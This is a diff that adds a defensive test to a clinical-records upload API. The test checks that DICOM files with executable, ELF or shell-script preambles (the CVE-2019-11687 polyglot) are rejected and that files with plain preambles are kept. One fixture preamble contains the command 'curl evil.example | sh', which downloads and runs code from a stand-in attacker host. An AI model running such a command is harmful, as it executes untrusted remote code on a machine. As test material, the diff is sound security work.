@@ -175,6 +175,21 @@ describe('clinical records: report date, storage quota, access first', () => {
       assert.equal(res.headers['cache-control'], 'private, no-store', url);
     }
   });
+  it('a DICOM file whose preamble is a program (the PE-DICOM polyglot, CVE-2019-11687) is refused; zeros or a TIFF header are kept', async () => {
+    const dicom = (preamble: Buffer) => Buffer.concat([preamble, Buffer.alloc(128 - preamble.length), Buffer.from('DICM'), Buffer.from('02000000554c0400', 'hex'), Buffer.alloc(64)]);
+    const send = (bytes: Buffer, name: string) => t.http.post('/api/v1/records/reports').set(patient.auth).field('report_type', 'mri_ct').field('report_date', indiaDate(0)).attach('files', bytes, name);
+    for (const [preamble, name] of [
+      [Buffer.concat([Buffer.from('MZ'), Buffer.from([0x90, 0x00, 0x03])]), 'ct-head.dcm'],
+      [Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01]), 'mri.dcm'],
+      [Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), 'scan.dcm'],
+    ] as const) {
+      const refused = await send(dicom(preamble), name);
+      assert.deepEqual([refused.status, refused.body.detail], [415, RECORD_TEXTS.reportFileType(name)]);
+    }
+    const kept = await send(dicom(Buffer.alloc(0)), 'plain.dcm').expect(201);
+    assert.equal(kept.body.files[0].content_type, 'application/dicom');
+    await send(dicom(Buffer.from([0x49, 0x49, 0x2a, 0x00])), 'tiff-preamble.dcm').expect(201);
+  });
 });
 
 describe('clinical records: the per-patient storage quota (RECORDS_QUOTA_MB)', () => {
